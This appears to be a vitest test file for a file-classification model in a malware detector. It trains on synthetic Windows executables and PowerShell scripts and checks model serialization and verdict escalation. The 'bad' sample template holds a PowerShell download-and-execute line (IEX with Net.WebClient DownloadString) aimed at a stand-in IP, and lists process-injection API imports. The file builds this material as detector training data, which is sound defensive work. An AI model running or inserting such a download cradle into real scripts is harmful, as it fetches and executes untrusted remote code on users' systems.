import { createHash } from "node:crypto";
import { sha256Of } from "@cordon/model/ids";
import { describe, expect, it } from "vitest";
import { type FileRow, trainFiles } from "../learning/evaluate/file-training.ts";
import { contentToFileModel, fileModelToContent } from "../learning/model-file/file-model-file.ts";
import { readModel, writeModel } from "../learning/model-file/model-file.ts";
import { makeRandom } from "../learning/random.ts";
import { examineFile } from "./examine.ts";
import { type FileModelOpinion, makeFileJudge, raisedFileVerdict } from "./file-judge.ts";
import { FILE_MARKS, fileVector } from "./file-vector.ts";
import { peWith } from "./seeded-files.test.ts";
import type { FileVerdict } from "./verdict.ts";

const hash = (bytes: Uint8Array) => sha256Of(createHash("sha256").update(bytes).digest("hex"));
const random = makeRandom(5);
const words = (count: number): string =>
  Array.from({ length: count }, () => random.next().toString(36).slice(2, 8)).join(" ");
/** Of each class some programs and some scripts. */
const made = (bad: boolean, at: number) =>
  at % 3 === 0
    ? examineFile(
        `${at}.exe`,
        peWith({ imports: bad ? ["VirtualAllocEx", "WriteProcessMemory", `F${at}`] : ["GetTickCount", `F${at}`] }),
      )
    : examineFile(
        `${at}.ps1`,
        new TextEncoder().encode(
          bad
            ? `${words(at)}\nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/${words(1)}')`
            : `${words(at + 20)}\nGet-Date | Out-File ${words(1)}`,
        ),
      );
const ROWS = Array.from({ length: 160 }, (_, at): FileRow => {
  const file = made(at % 2 === 1, at >> 1);
  const values = fileVector(file);
  return { name: file.name, bad: at % 2 === 1, kind: file.kind, values, group: values.join(",") };
});
const { model, outcome } = trainFiles(ROWS, 1);

describe("a model of files", () => {
  it("FV1, FV2. a vector has a value for each mark, and NaN for what a kind cannot have", () => {
    const values = fileVector(examineFile("a.txt", new TextEncoder().encode("one line")));
    expect(values).toHaveLength(FILE_MARKS.length);
    expect(new Set(FILE_MARKS).size).toBe(FILE_MARKS.length);
    expect(values[FILE_MARKS.indexOf("kind text")]).toBe(1);
    expect(values[FILE_MARKS.indexOf("libraries used")]).toBeNaN();
  });

  it("tells the classes apart on folds, and says of how many", () => {
    expect(outcome.metrics.auroc).toBeGreaterThan(0.95);
    expect(outcome.metrics).toMatchObject({ n: 160, bad: 80 });
    expect(Object.keys(outcome.by ?? {}).toSorted()).toEqual(["pe", "script"]);
  });

  it("survives its file to the bit, and says why in words that add up to its side", () => {
    const { bytes, id } = writeModel(fileModelToContent(model, {}), hash);
    const back = contentToFileModel(readModel(bytes, hash));
    for (const [bad, at] of [
      [true, 97],
      [false, 98],
      [true, 99],
    ] as const) {
      const file = made(bad, at);
      const [a, b] = [makeFileJudge(id, model)(file), makeFileJudge(id, back)(file)];
      expect(b).toEqual(a);
      expect(a.over).toBe(bad);
      expect(a.because[0]?.words).toMatch(/^[\w :.,()-]+$/);
      expect(Math.sign(a.because[0]?.weight ?? 0)).toBe(bad ? 1 : -1);
    }
  });

  it("FJ2. a forest of other marks is refused by name", () => {
    const names = ["frobnication", ...model.forest.schema.names.slice(1)];
    const forest = { ...model.forest, schema: { ...model.forest.schema, names } };
    expect(() => makeFileJudge("x", { ...model, forest })).toThrow(/frobnication.*train it again/);
  });

  it.each<readonly [string, object]>([
    ["another kind", { kind: "mail" }],
    ["a cut beyond 1", { about: { ...fileModelToContent(model, {}).about, cut: 7 } }],
    ["no calibrator", { about: { ...fileModelToContent(model, {}).about, calibrator: {} } }],
  ])("%s is refused", (_, part) => {
    const { bytes } = writeModel({ ...fileModelToContent(model, {}), ...part }, hash);
    expect(() => contentToFileModel(readModel(bytes, hash))).toThrow(
      expect.objectContaining({ code: "model-malformed" }),
    );
  });

  const opinion = (over: boolean): FileModelOpinion => ({
    ...{ model: "m", probability: 0.9, calibrated: true, cut: 0.5, over, because: [] },
  });
  it.each<readonly [FileVerdict["verdict"], boolean, FileVerdict["verdict"]]>([
    ["unremarkable", true, "suspicious"],
    ["unknown", true, "suspicious"],
    ["suspicious", true, "malicious"],
    ["malicious", true, "malicious"],
    ["unremarkable", false, "unremarkable"],
    ["suspicious", false, "suspicious"],
    ["malicious", false, "malicious"],
  ])("FJ1. points say %s, over the cut %s: %s", (points, over, expected) => {
    expect(raisedFileVerdict(points, opinion(over))).toBe(expected);
  });
});
